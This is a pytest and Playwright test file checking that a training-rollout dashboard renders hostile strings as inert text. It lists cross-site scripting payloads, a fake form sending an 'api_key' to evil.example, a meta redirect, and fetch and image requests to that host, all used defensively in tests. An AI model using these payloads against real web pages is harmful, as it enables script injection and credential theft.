"""Texts of agents, servers and trainers are shown, and never obeyed: markup stays text in every view."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from rollout_queue.contract.records import Verdict
from rollout_queue.redis import key_names
from tests.support.gateway.running import ADMIN_KEY, Backends
from tests.support.page.browser import Tab, go
from tests.support.page.deployment import ShownDeployment, shown_deployment
from tests.support.page.learned import HOSTILE, end, put_turn
from tests.support.page.looks import overflow, too_wide

ATTACKS = [
    HOSTILE,
    "<script>window.struck = 1</script>",
    "<img src=x onerror='window.struck=1'>",
    "<svg onload=window.struck=1><a xlink:href='javascript:window.struck=1'>x</a></svg>",
    "javascript:window.struck=1",
    "'\"><iframe srcdoc='<script>parent.struck=1</script>'>",
    "&lt;b&gt; ${window.struck=1} {{constructor.constructor('window.struck=1')()}}",
    "<style>*{display:none}</style><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=api_key><button>go</button></form>",
    "__proto__",
]
IDS = ["javascript:window.struck=1", "..%2F", "a+b=c~d@e:f", "__proto__", "constructor", "-0"]


@pytest.fixture(scope="module")
def hostile(backends: Backends) -> Iterator[ShownDeployment]:
    with shown_deployment(backends, servers=1) as shown:
        for number, text in enumerate(ATTACKS):
            name = f"attack-{number}"
            metadata = {text[:200]: text, "__proto__": {"x": text}}
            shown.gateway.session(session_id=name, metadata=metadata, user="u", group_id=f"g-{number}")
            more = {"side_call": text, "lineage": text, "reason": text, "engine": text}
            put_turn(shown, name, f"{name}-t", text, context=text, relation="forks", **more)
            shown.gateway.post(f"/sessions/{name}/reward", {"value": 1.0, "source": text[:100], "key": "k"})
            end(shown, name, 0.0, Verdict(code="invalid", detail=text))
        for name in IDS:
            if shown.gateway.post("/sessions", {"session_id": name, "task_id": name}).status_code == 201:
                put_turn(shown, name, f"{name}-t", "fine")
        yield shown


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_a_hostile_text_is_only_a_text(hostile: ShownDeployment, tab: Tab, number: int) -> None:
    page = tab(hostile.gateway.url).tab
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    go(page, f"#/sessions/attack-{number}?colour=verdict")
    expect(page.locator(".tokens")).to_be_visible()
    page.get_by_text("Metadata").click()
    expect(page.locator("pre")).to_contain_text("__proto__")
    main = page.locator("main")
    assert main.locator("img, script, iframe, form, style, meta, a[href^=javascript]").count() == 0
    assert page.evaluate("window.struck") is None
    assert page.evaluate("({}).x") is None
    assert "\u202e" not in main.inner_text()


def test_hidden_characters_are_visible(hostile: ShownDeployment, tab: Tab) -> None:
    page = go(tab(hostile.gateway.url).tab, "#/sessions/attack-0")
    expect(page.locator(".tokens")).to_contain_text("[U+202E]")
    said = page.locator(".tokens").inner_text()
    for mark in ("[U+202E]", "[U+200B]", "␛", "␍", "⏎", "<img"):
        assert mark in said, mark


@pytest.mark.parametrize("name", IDS)
def test_odd_ids_lead_to_their_session(hostile: ShownDeployment, tab: Tab, name: str) -> None:
    if hostile.gateway.get(f"/sessions?id={name}").json()["data"] == []:
        pytest.skip("not an id that the gateway takes")
    page = go(tab(hostile.gateway.url).tab, "#/sessions")
    page.get_by_role("link", name=name, exact=True).first.click()
    expect(page.get_by_role("heading", level=1)).to_have_text(f"Session {name}")
    assert page.evaluate("window.struck") is None


MARKUP = '"><img src=x onerror="window.hurt=1"><script>window.hurt=1</script><svg onload=window.hurt=1>'
LINK = "javascript:window.hurt=1"
NODE = {"type": "img", "props": {"src": "x", "onerror": "window.hurt=1"}, "__v": 0, "constructor": None}
"""What a template library would take for an element, if it came from its own function."""
LONG = "W" * 3000
WIDEST = "W" * 200


@pytest.fixture(scope="module")
def marked_up(backends: Backends) -> Iterator[ShownDeployment]:
    with shown_deployment(backends) as shown:
        shown.report(waiting_for=MARKUP, state=MARKUP[:60], metrics={"reward_mean": 1.0, MARKUP: 2.0})
        for name, value in (("note", NODE), ("step", NODE), ("version", MARKUP)):
            shown.gateway.redis.hset(key_names.TRAINER, name, json.dumps(value))
        shown.gateway.redis.xadd(key_names.DEAD_LETTERS, {"error": MARKUP + LONG})
        shown.publish(1, location=f"http://h/{MARKUP}")
        shown.publish(2, location=LINK)
        shown.servers["rollout-0"].part.nonsense = {"ok": False, "error": {"message": MARKUP}}
        shown.publish(3, location=f"file:///{LONG}")
        shown.admin("POST", "/admin/policies/hold", {"reason": MARKUP})
        register(shown, MARKUP[:150])
        register(shown, LINK)
        named = {"task_id": "t" * 200, "group_id": "g" * 200, "user": "u" * 200}
        shown.gateway.session(session_id=WIDEST, **named)
        put_turn(shown, WIDEST, "wide", LONG, context=LONG)
        yield shown


def register(shown: ShownDeployment, name: str) -> None:
    """A server whose name is hostile; its state is unknown, because nobody is there."""
    body = {"id": name, "url": "http://127.0.0.1:9", "engine_url": "http://127.0.0.1:9"}
    reply = shown.gateway.post("/admin/rollout_servers", body, key=ADMIN_KEY)
    if reply.status_code != 200:  # the contract does not take such a name, so it is written behind its back
        shown.gateway.redis.hset(key_names.SERVERS, name, json.dumps(body))


def unhurt(page: Page) -> None:
    assert page.evaluate("window.hurt") is None
    found: dict[str, Any] = page.evaluate(
        """() => ({
            scripts: document.querySelectorAll("#app script, #app iframe, #app img, #app [onerror]").length,
            links: [...document.querySelectorAll("a")].map((each) => each.protocol),
        })"""
    )
    assert found["scripts"] == 0
    assert set(found["links"]) == {"http:"}


def test_hostile_texts_are_shown_as_texts(marked_up: ShownDeployment, tab: Tab) -> None:
    page = tab(marked_up.gateway.url).tab
    expect(page.locator(".lead")).to_contain_text(MARKUP)
    expect(page.get_by_role("list", name="Warnings")).to_contain_text(MARKUP)
    unhurt(page)
    page.get_by_role("link", name="Policies", exact=True).click()
    expect(page.get_by_role("table", name="Versions, the newest first")).to_contain_text(MARKUP)
    expect(page.get_by_role("table", name="Rollout servers")).to_contain_text(MARKUP[:150])
    expect(page.locator(".held")).to_contain_text(MARKUP)
    unhurt(page)
    page.get_by_role("button", name=f"Drain {LINK}").click()
    expect(page.get_by_role("dialog")).to_contain_text(f"{LINK} gets no new calls")
    unhurt(page)
    assert overflow(page) <= 0
    page.keyboard.press("Escape")
    for place, shown in (
        ("#/policies", ".held"),
        ("#/now", ".lead"),
        ("#/sessions", "table"),
        (f"#/sessions/{WIDEST}", ".message"),
    ):
        expect(go(page, place).locator(f"main {shown}").first).to_be_visible()
        assert not too_wide(page, (320, 390, 768, 1001, 1280)), place


@pytest.mark.parametrize(
    ("fragment", "heading"),
    [
        ("<img src=x onerror=window.hurt=1>", "Not found"),
        ("/now/%3Cscript%3E", "Not found"),
        ("/lineage/<img src=x onerror=window.hurt=1>", "Not found"),
        ("/learning?m=reward_mean&from=<svg onload=window.hurt=1>", "Learning"),
        ("/%E0%A4%A", "Not found"),
        ("/policies?x=%00", "Policies"),
        ("/__proto__", "Not found"),
        ("//evil.example", "Not found"),
    ],
)
def test_a_hostile_address_shows_a_view_or_says_that_there_is_none(
    marked_up: ShownDeployment, tab: Tab, fragment: str, heading: str
) -> None:
    page = tab(f"{marked_up.gateway.url}/#{fragment}").tab
    expect(page.get_by_role("heading", level=1)).to_have_text(heading)
    unhurt(page)


def test_the_browser_refuses_markup_from_a_string(marked_up: ShownDeployment, tab: Tab) -> None:
    """The second line of defence: the page's policy."""
    watched = tab(marked_up.gateway.url)
    watched.expected += ["TrustedHTML", "Content Security Policy", "blocked", "violates"]
    refused = watched.tab.evaluate(
        """() => { try { document.body.innerHTML = "<b>x</b>"; return false; } catch { return true; } }"""
    )
    assert refused
    watched.tab.evaluate(
        """() => {
            const image = document.createElement("img");
            image.src = "https://evil.example/x";
            document.body.append(image);
            return fetch("https://evil.example/").catch(() => null);
        }"""
    )
    assert len(watched.complaints) >= 3
    watched.hosts.clear()  # Chromium tells of requests that it does not send
